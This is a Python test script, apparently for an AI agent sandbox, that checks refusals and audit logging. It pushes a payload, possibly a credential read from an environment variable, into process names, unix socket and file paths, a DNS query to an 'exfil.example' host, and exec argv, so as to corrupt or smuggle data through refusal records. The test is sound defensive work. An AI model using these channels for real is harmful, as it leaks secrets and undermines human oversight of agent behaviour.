#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
# An agent's bytes in every field of its audit records: to make the records
# of its refusals unwritable (bytes that are not UTF-8), or to carry a
# credential value out through them (a process name, a unix socket name, a
# file name, a DNS name, an argv). One call does every refused thing with
# the same PAYLOAD, then execs a program named after it:
#
#   records.py PAYLOAD SKILLDIR [COMM]
#
# PAYLOAD: hex bytes, or env:VAR (the bytes of $VAR, e.g. a credential the
# call holds). COMM: hex bytes put before PAYLOAD in the process name
# (prctl(PR_SET_NAME), which the kernel cuts to 15 bytes).
#   1. prctl(PR_SET_NAME, COMM + PAYLOAD)
#   2. connect unix /tmp/tw-rec-PAYLOAD            (refused by the hooks)
#   3. connect unix abstract "\0tw-rec-PAYLOAD"    (refused by the hooks)
#   4. open /root/tw-rec-PAYLOAD                   (refused by Landlock)
#   5. DNS query tw-rec-PAYLOAD.exfil.example to 127.0.0.53 (refused name)
#   6. execve /root/tw-rec-PAYLOAD                 (refused by Landlock)
#   7. execve SKILLDIR/tw-rec-PAYLOAD (a link to true, made by the test)
#      with argv [tw-rec-PAYLOAD, arg-PAYLOAD]; SKILLDIR "-": exit instead
# Prints "DONE <step>=<errno>..." before the last exec, "ERROR ..." when a
# refused step was not refused (the harness then has nothing to check).
import sys
sys.dont_write_bytecode = True  # (a call may not write here)
import ctypes
import os
import socket
import struct

from _esc import ename, error, libc, out

PR_SET_NAME = 15


def payload(arg):
    if arg.startswith("env:"):
        return os.environb[arg[4:].encode()]
    return bytes.fromhex(arg)


def dns_query(labels):
    q = struct.pack("!HHHHHH", 0x7265, 0x0100, 1, 0, 0, 0)
    for label in labels:
        q += bytes([len(label)]) + label
    q += b"\0" + struct.pack("!HH", 1, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    try:
        s.sendto(q, ("127.0.0.53", 53))
        r = s.recv(4096)
        return "rcode%d" % (r[3] & 15)
    except OSError as e:
        return ename(e.errno) if e.errno else "timeout"
    finally:
        s.close()


def refused(what, fn):
    try:
        fn()
    except OSError as e:
        return "%s=%s" % (what, ename(e.errno))
    error("%s was not refused" % what)


def unix(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect(path)
    finally:
        s.close()


def main():
    p = payload(sys.argv[1])
    skills = sys.argv[2].encode()
    comm = bytes.fromhex(sys.argv[3]) if len(sys.argv) > 3 else b""
    name = b"tw-rec-" + p
    if libc.prctl(PR_SET_NAME, ctypes.c_char_p(comm + p), 0, 0, 0):
        error("prctl")
    got = [
        refused("unix", lambda: unix(b"/tmp/" + name)),
        refused("abstract", lambda: unix(b"\0" + name)),
        refused("open", lambda: open(b"/root/" + name, "rb")),
        "dns=" + dns_query([name, b"exfil", b"example"]),
        refused("exec", lambda: os.execv(b"/root/" + name, [name])),
    ]
    out("DONE " + " ".join(got))
    sys.stderr.flush()
    if skills == b"-":
        sys.exit(0)
    os.execv(skills + b"/" + name, [name, b"arg-" + p])


if __name__ == "__main__":
    main()
